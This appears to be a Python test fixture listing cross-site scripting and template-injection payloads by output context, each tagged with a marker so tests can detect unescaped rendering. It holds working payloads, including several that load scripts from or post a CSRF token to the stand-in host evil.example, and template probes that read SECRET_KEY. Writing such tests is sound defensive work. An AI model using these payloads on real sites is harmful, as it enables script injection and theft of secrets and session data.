"""What somebody types who would like a page to run it: for every place that words can come to stand (P23).

Each carries MARK where markup would begin, so that a parser finds it wherever it comes out unescaped.
"""

from __future__ import annotations

from typing import Final

from tests.house.hostile import MARK

M = MARK
TEXT = [
    f"<script>{M}()</script>",
    f"<ScRiPt>{M}()</sCrIpT>",
    f"<script src=//evil.example/{M}></script>",
    f"<script/{M}>1</script>",
    f"<scr<script>ipt>{M}()</scr</script>ipt>",
    f"<<script>{M}()//<</script>",
    f"<script>{M}()<!--",
    f"<img src=x onerror={M}()>",
    f"<img src=x:{M} onerror=1>",
    f"<IMG SRC=`javascript:{M}`>",
    f"<image href={M} onerror=1>",
    f"<video><source onerror={M}()>",
    f"<audio src onerror={M}()>",
    f"<body onload={M}()>",
    f"<iframe src=javascript:{M}()>",
    f"<iframe srcdoc='<script>{M}()</script>'>",
    f"<object data=javascript:{M}()>",
    f"<embed src=javascript:{M}()>",
    f"<details open ontoggle={M}()>",
    f"<marquee onstart={M}()>",
    f"<input autofocus onfocus={M}()>",
    f"<select autofocus onfocus={M}()>",
    f"<textarea autofocus onfocus={M}()>",
    f"<button formaction=javascript:{M}()>x",
    f"<form action=//evil.example/{M}><input name=csrfmiddlewaretoken>",
    f"<link rel=stylesheet href=//evil.example/{M}>",
    f"<base href=//evil.example/{M}/>",
    f"<meta http-equiv=refresh content='0;url=//{M}'>",
    f"<a href=javascript:{M}()>x</a>",
    f"<dialog open onclose={M}()>",
    f"<{M}>",
    f"<{M}-x onpointerenter=1>",
    f"<template><{M}></template>",
    f"<plaintext {M}>",
    f"<xmp><{M}>",
    f"</p></div></main><{M}>",
]
ATTRIBUTE = [
    f'" onmouseover="{M}()',
    f"' onmouseover='{M}()",
    f'"><{M}>',
    f"'><{M}>",
    f'" autofocus onfocus={M}() x="',
    f"' autofocus onfocus={M}() x='",
    f'"/><svg/onload={M}()>',
    f"` onmouseover=`{M}()",
    f'" {M}="',
    f"' {M}='",
    f'"\tonclick\t=\t"{M}()',
    f'"\nonclick\n=\n"{M}()',
    f'" style="x:{M}',
    f"\u00a0onclick={M}()",
    f'\\" onclick={M}() \\"',
    f"&quot; onclick={M}()",
    f"&#34;&gt;&lt;{M}&gt;",
    f"x onclick={M}()",
]
RAW = [
    f"</textarea><{M}>",
    f"</title><{M}>",
    f"</script><{M}>",
    f"</style><{M}>",
    f"</option></select><{M}>",
    f"</noscript><{M}>",
    f"</svg></text></title></desc><{M}>",
    f"--><{M}>",
    f"--!><{M}>",
    f"]]><{M}>",
    f"?><{M}>",
    f"<!--><{M}>-->",
]
ADDRESS = [
    f"javascript:{M}()",
    f"JaVaScRiPt:{M}()",
    f"java\tscript:{M}()",
    f"java\nscript:{M}()",
    f" javascript:{M}()",
    f"javascript&colon;{M}()",
    f"&#106;avascript:{M}()",
    f"javascript://%0a{M}()",
    f"data:text/html,<script>{M}()</script>",
    f"data:image/svg+xml,<svg onload={M}()>",
    f"vbscript:{M}",
    f"//evil.example/{M}",
    f"https://evil.example/{M}",
    f"//{M}@evil.example",
]
SCRIPT = [
    f"'-{M}()-'",
    f'"-{M}()-"',
    f"';{M}();//",
    f"\\';{M}();//",
    f"`${{{M}()}}`",
    f"\u2028{M}()//",
    f'{{"a":"</script><{M}>"}}',
    f"{{{{constructor.constructor('{M}()')()}}}}",
    f"*/{M}()/*",
    f"\\u003c{M}\\u003e",
    f"\\x3c{M}\\x3e",
]
TEMPLATE = [
    "{{7*7}}" + M,
    "{% debug %}" + M,
    "{{ settings.SECRET_KEY }}" + M,
    "{{ ''.__class__.__mro__ }}" + M,
    "{# " + M + " #}",
    "${7*7}" + M,
    "<%= 7*7 %>" + M,
    "#{7*7}" + M,
    "%(asctime)s %s" + M,
]
STYLE = [
    f"</style><style>*{{background:url(//{M})}}",
    f"x;background:url(javascript:{M})",
    f"expression({M}())",
    f"@import '//{M}';",
]
DRAWING = [
    f"<svg/onload={M}()>",
    f"<svg><script>{M}()</script></svg>",
    f"<svg><animate onbegin={M}() attributeName=x>",
    f"<svg><a xlink:href=javascript:{M}()><text>x</text></a></svg>",
    f"<svg><foreignObject><{M}></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,{M}'/></svg>",
    f"<svg><style><img src=x onerror={M}()></style></svg>",
]
MUTATION = [
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img onerror={M}()>'>",
    f"<noscript><p title='</noscript><img src=x onerror={M}()>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={M}()>'>",
    f"<p id='</title><{M}>'>",
    f"<a title='`><img src=x onerror={M}()>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={M}()>",
]
MARKDOWN = [
    f"[x](javascript:{M}())",
    f"![x](x 'onerror={M}()')",
    f"<javascript:{M}()>",
    f"```\n</code></pre><{M}>\n```",
    f"# <{M}>",
    f"| <{M}> | b |\n|---|---|",
]
ODD = [
    f"+ADw-script+AD4-{M}()",
    f"\uff1cscript\uff1e{M}()",
    f"\u202e>{M}<\u202c",
    f"%3C{M}%3E",
    f"&lt;{M}&gt;",
    f'=HYPERLINK("javascript:{M}")',
]
PAYLOADS: Final = [
    *TEXT, *ATTRIBUTE, *RAW, *ADDRESS, *SCRIPT, *TEMPLATE, *STYLE, *DRAWING, *MUTATION, *MARKDOWN, *ODD,
]  # fmt: skip
POLYGLOT: Final = (
    f"\"'`><svg/onload={M}()><img src=x onerror=alert(1)></title></textarea></script>"
    "<script>alert(1)</script>{{7*7}}"
)
